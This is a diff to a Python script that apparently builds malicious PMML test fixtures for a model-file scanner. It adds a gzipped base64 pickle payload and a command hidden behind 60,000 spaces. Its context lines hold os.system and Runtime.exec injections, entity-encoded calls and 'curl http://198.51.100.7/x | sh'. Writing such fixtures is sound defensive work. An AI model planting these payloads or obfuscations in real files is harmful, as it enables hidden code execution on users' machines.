@@ -4,6 +4,7 @@ The libraries that write PMML are programs in Java, R, SAS and SPSS; the benign 
 name spaces, extensions, encodings. Payloads echo a word or name a file or address that does not exist.
 """
 import base64
+import gzip
 import os
 import pathlib
 import pickle
@@ -113,6 +114,8 @@ bad("extension_value.pmml", pmml('<Extension name="init" value="os.system(\'echo
 bad("extension_script.pmml", pmml('<Extension><script language="python">print(1)</script></Extension>', REGRESSION))
 bad("extension_named_script.pmml", pmml('<Extension name="python-script" value="print(open(1))"/>', REGRESSION))
 bad("extension_pickle.pmml", pmml(f"<Extension>{PICKLE}</Extension>", REGRESSION))
+bad("extension_packed_pickle.pmml", pmml(f"<Extension>{base64.b64encode(gzip.compress(pickle.dumps(Echo(), 4), mtime=0)).decode()}</Extension>", REGRESSION))
+bad("extension_long.pmml", pmml(f"<Extension>{' ' * 60000}os.system('echo surety')</Extension>", REGRESSION))
 bad("extension_cdata.pmml", pmml("<Extension><![CDATA[Runtime.getRuntime().exec(\"id\")]]></Extension>", REGRESSION))
 bad("extension_shell.pmml", pmml('<Extension extender="hook">curl http://198.51.100.7/x | sh</Extension>', REGRESSION))
 bad("extension_characters.pmml", pmml("<Extension>os&#46;sys&#116;em('echo surety')</Extension>", REGRESSION))
